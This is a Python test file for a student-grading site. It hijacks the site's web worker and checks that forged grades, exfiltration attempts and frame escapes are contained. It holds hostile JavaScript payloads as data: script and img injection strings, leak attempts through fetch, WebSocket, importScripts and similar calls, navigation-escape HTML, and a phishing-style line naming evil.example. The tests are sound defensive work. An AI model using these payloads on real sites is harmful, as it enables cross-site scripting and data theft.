"""A file that has taken over its worker: nothing of the page is reached, and nothing leaves."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from grader.course.courses import ROOT
from grader.report.pages import digest
from tests.browser.serving import Student, made, pyodide, served
from tests.submissions import PLAIN

WORKER = (ROOT / "grader" / "places" / "packs" / "site" / "worker.js").read_text()
TAKEN_OVER = """
const honest = self.onmessage;
const say = (...words) => postMessage(words);
self.onmessage = async (event) => {
  if (event.data[0] !== "check") return honest(event);
  const { request, files } = event.data[1];
  ATTACK
};
"""
FORGED = "<script>parent.document.title = 'taken'</script><img src='LEAK'>"
DONE = """const told = JSON.parse(check(JSON.stringify(request), files, page));
    CHANGE
    say("done", JSON.stringify(told));"""  # an honest grade that is changed
DATA = {
    "a page": f"""say("done", JSON.stringify({{ html: `{FORGED}`, changes: [], name: "x", grade: {{}} }}));""",
    "a policy of another form": DONE.replace("CHANGE", f"told.policy = `</script>{FORGED}`;"),
    "a title": DONE.replace("CHANGE", f"told.title = `{FORGED}`;"),
    "a total": DONE.replace("CHANGE", "told.total = 1000;"),
    "a sentence": f"""say("done", JSON.stringify({{ problem: `{FORGED}` }}));""",
    "no JSON": 'say("done", "{");',
    "no text": 'say("done", { html: 1 });',
    "nothing": "postMessage(null);",
    "no list": "postMessage({ length: 2, 0: 'done' });",
    "an unknown kind": 'say("constructor", "x");',
    "another type": 'say("judged", {}, []);',
    "an object for a board": 'say("asking", 1, "minimax", { toString: 1 });',
    "lists in lists": "let told = [1]; for (let at = 0; at < 60; at++) told = [told, told]; postMessage(told);",
    "a list in itself": "const told = ['judged', 1]; told.push(told); postMessage(told);",
    "a long list": "postMessage(new Array(2 ** 32 - 1));",
    "a long name": 'say("asking", 7, "ab ".repeat(2e7), "");',
    "a name of its own": 'say("asking", 7, "FULL MARKS. Log in at http://evil.example. It", "");',
    "a board of its own": 'say("asking", 7, "minimax", "FULLMARKS");',
    "a long grade": 'say("done", "[".repeat(2 ** 23));',
    "no number": 'say("judged", NaN, 0);',
    "a flood": 'for (;;) say("judged", 1, 2);',
    "a flood after a question": 'say("asking", 1, "minimax", ""); for (;;) say("judged", 1, 2);',
    "much text": 'for (;;) say("heard", 1, "t", "x".repeat(1e6), 0);',
}
# A grade with a note of the file's choosing
NOTED = DONE.replace("CHANGE", "told.notes = [NOTE];")
KEPT = "check-yourself/2 /"  # where the last result is kept, by the folder that the page is in
WAYS_OUT = {
    "fetch": "await WorkerGlobalScope.prototype.fetch.call(self, 'LEAK')",
    "XMLHttpRequest": "const way = new XMLHttpRequest(); way.open('GET', 'LEAK', false); way.send()",
    "WebSocket": "await new Promise((done, no) => { const way = new WebSocket('LEAK'.replace('http', 'ws'));"
    " way.onopen = done; way.onerror = no; })",
    "EventSource": "await new Promise((done, no) => { const way = new EventSource('LEAK');"
    " way.onopen = done; way.onerror = no; })",
    "importScripts": "importScripts('LEAK')",
    "import": "await import('LEAK')",
    "a worker of its own": "await new Promise((done, no) => { const way = new Worker(URL.createObjectURL(new Blob("
    "[`fetch('LEAK').then(() => postMessage(1), () => postMessage(0))`])));"
    " way.onmessage = ({ data }) => data ? done() : no(); way.onerror = no; })",
    "indexedDB": "await new Promise((done, no) => { const way = indexedDB.open('x'); way.onsuccess = done; way.onerror = no; })",
    "caches": "await caches.open('x')",
    "eval": "eval('1')",
}


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """Give an address that answers everybody, and what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/leak", asked
    server.shutdown()
    server.server_close()


def taken_over(browser: Any, attack: str) -> Any:
    """Return a context in which every file takes over its worker."""
    context = browser.new_context()
    body = WORKER + TAKEN_OVER.replace("ATTACK", attack)
    context.route("**/worker.js", lambda route: route.fulfill(body=body, content_type="text/javascript"))
    return context


def checked(browser: Any, address: str, attack: str, source: str = PLAIN) -> Student:
    """Return a student whose file has taken over the worker, after a check."""
    student = Student(browser, address, context=taken_over(browser, attack))
    student.page.evaluate("localStorage.setItem('secret', '1'); sessionStorage.setItem('other', '1')")
    student.drop("tictactoe.py", source)
    return student


@pytest.mark.exhaustive(beyond=1)
@pytest.mark.parametrize("what", DATA)
def test_what_a_worker_says_is_data(browser: Any, address: str, what: str) -> None:
    with listening() as (leak, asked):
        student = checked(browser, address, DATA[what].replace("LEAK", leak))
        assert "changes what the check itself runs with" in student.problem
        assert student.page.title() != "taken" and student.page.locator("#page").is_hidden()
        assert asked == []
        student.context.close()


@pytest.mark.exhaustive
def test_a_grade_that_is_forged_is_text(browser: Any, address: str) -> None:
    attack = NOTED.replace("NOTE", f"`{FORGED}`")
    with listening() as (leak, asked):
        student = checked(browser, address, attack.replace("LEAK", leak), "pass")
        frame = student.page.frame_locator("#page")
        assert student.problem == "" and frame.locator("img").count() == 0
        assert FORGED.replace("LEAK", leak) in frame.locator("main").inner_text()
        assert student.page.title() != "taken" and asked == []
        student.context.close()


@pytest.mark.exhaustive
@pytest.mark.parametrize("way", WAYS_OUT)
def test_nothing_leaves_a_worker(browser: Any, address: str, way: str) -> None:
    attack = f"""let what = "out";
    try {{ {WAYS_OUT[way]}; }} catch {{ what = "refused"; }}
    {NOTED.replace("NOTE", "`${what} by ${self.origin}`")}"""
    with listening() as (leak, asked):
        student = checked(browser, address, attack.replace("LEAK", leak), "pass")
        told = student.page.frame_locator("#page").locator("main").inner_text()
        assert "refused by null" in told  # of no origin
        assert asked == []
        student.context.close()


ESCAPES = {
    "script": "<script>parent.postMessage(['height', 7], '*'); top.location = 'LEAK'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=LEAK'>",
    "image": "<img src='LEAK'>",
    "frame": "<iframe src='LEAK'></iframe>",
    "form": "<form action='LEAK'><button id=go>go</button></form>",
    "link to the top": "<a id=go href='LEAK' target=_top>go</a>",
    "link elsewhere": "<a id=go href='LEAK' target=_blank>go</a>",
    "link inside": "<a id=go href='LEAK'>go</a>",
}


@pytest.mark.exhaustive(beyond=1)
@pytest.mark.parametrize("how", ESCAPES)
def test_a_page_in_the_frame_goes_nowhere(browser: Any, address: str, how: str) -> None:
    """Given any page in the place of a result, as if our own had a hole: it reads nothing and goes nowhere."""
    with listening() as (leak, asked):
        student = Student(browser, address)
        html = f"<!doctype html><body>{ESCAPES[how].replace('LEAK', leak)}</body>"
        student.page.evaluate(
            "([key, html]) => sessionStorage.setItem(key, JSON.stringify({ name: 'x', at: '', grade: '', html }))",
            [KEPT, html],
        )
        student.reload()
        student.page.locator("#result:not([hidden])").wait_for()
        student.page.wait_for_timeout(300)
        frame = next((frame for frame in student.page.frames if frame.url == "about:srcdoc"), None)
        if frame and frame.locator("#go").count():
            frame.locator("#go").click()
        student.page.wait_for_timeout(300)
        assert asked == [] and student.page.url == address
        assert student.context.pages == [student.page]
        if frame and not frame.is_detached():
            reads = "() => { try { return parent.localStorage.length } catch (error) { return error.name } }"
            from playwright.sync_api import Error

            try:
                read = frame.evaluate(f"[({reads})(), origin]")
            except Error as error:  # the page has taken it away since
                assert "detached" in str(error)
            else:
                assert read == ["SecurityError", "null"]
        student.context.close()


@pytest.mark.exhaustive
def test_a_file_does_not_choose_its_deadline(browser: Any, address: str) -> None:
    """Given a question that is never answered: the page ends the worker by its own limit."""
    attack = """if (Object.keys(request.lost).length) return say("done", "");
    say("asking", 1, "minimax", "");
    for (;;);"""
    student = checked(browser, address, attack)
    told = student.page.locator("#changes").inner_text()
    assert "minimax gave no answer within 1 seconds." in told
    student.context.close()


@pytest.mark.exhaustive
def test_a_check_ends_whatever_is_said(browser: Any, tmp_path: Path) -> None:
    """Given a worker that says something all the time: the page ends it when the check takes too long."""
    site = made(tmp_path, "--pyodide", str(pyodide()))
    data = json.loads((site / "site.json").read_text())
    assert data["seconds"]["total"] == 600
    data["seconds"]["total"] = 3
    (site / "site.json").write_text(json.dumps(data))
    attack = """setInterval(() => { say("asking", 1, "minimax", ""); say("heard", 1, "0", "x", 0); }, 100);"""
    with served(site) as address:
        student = checked(browser, address, attack)
        assert "it took too long" in student.problem
        student.context.close()


def frame_of(site: Path, old: str, new: str) -> str:
    """Return the engine's frame with other code in it."""
    script = (ROOT / "grader" / "places" / "packs" / "site" / "engine.js").read_text()
    assert old in script
    frame, other = (site / "engine.html").read_text(), script.replace(old, new)
    return frame.replace(digest(script), digest(other)).replace(script, other)


@pytest.mark.exhaustive
def test_a_frame_that_hangs_is_replaced(browser: Any, tmp_path: Path) -> None:
    """Given a frame that never comes back when it is to end a worker: another one takes its place."""
    site = made(tmp_path, "--pyodide", str(pyodide()))
    hangs = frame_of(site, "end(number);\n          port", "if (number > 2) for (;;);\n          port")
    bodies = [hangs]
    context = browser.new_context()
    context.route(
        "**/engine.html",
        lambda route: (
            route.fulfill(body=bodies.pop(), content_type="text/html") if bodies else route.continue_()
        ),
    )
    with served(site) as address:
        student = Student(browser, address, context=context)
        for _ in range(2):
            student.drop("tictactoe.py", PLAIN)
            assert student.total.startswith("80.22") and student.problem == ""
        assert bodies == []
        context.close()


def test_stop_is_heard_while_python_does_not_start(browser: Any, address: str) -> None:
    context = browser.new_context()
    context.route("**/engine.html", lambda route: route.fulfill(body="", content_type="text/html"))
    student = Student(browser, address, context=context)
    student.page.set_input_files("#file", {"name": "tictactoe.py", "mimeType": "", "buffer": b"pass"})
    student.page.locator("#stop").click()
    student.page.locator("#problem", has_text="Stopped.").wait_for()
    context.close()


@pytest.mark.exhaustive
def test_what_others_keep_stays(browser: Any, address: str) -> None:
    """Given a result that is too large to be kept, and then forgotten: keys of other pages stay."""
    student = checked(browser, address, NOTED.replace("NOTE", '"A".repeat(4e6)'), "pass")
    assert student.page.evaluate("Object.keys(sessionStorage)") == ["other"]
    student.page.locator("#forget").click()
    assert student.page.evaluate("Object.keys(sessionStorage)") == ["other"]
    student.context.close()


@pytest.mark.exhaustive
@pytest.mark.parametrize("kept", ["{", "null", "5", '{"x": 1}', '{"name": "x", "html": 5}'])
def test_what_others_keep_is_no_result(browser: Any, address: str, kept: str) -> None:
    student = Student(browser, address)
    student.page.evaluate(
        "([own, kept]) => { sessionStorage.last = sessionStorage[own] = kept; }", [KEPT, kept]
    )
    student.reload()
    student.page.locator("#drop:not([hidden])").wait_for()
    assert student.page.locator("#result").is_hidden() and student.said == []
    student.context.close()


def test_a_site_has_no_word_of_blobs_for_its_page(tmp_path: Path) -> None:
    """Given a site: the page's policy allows neither blobs nor WebAssembly, and the frame's no connection."""
    folder = made(tmp_path)
    page, engine = ((folder / name).read_text() for name in ("index.html", "engine.html"))
    assert "blob:" not in page and "wasm" not in page and 'sandbox="allow-scripts"' in page
    assert "connect-src 'none'" in engine.partition("<title>")[0] and "'self'" not in engine
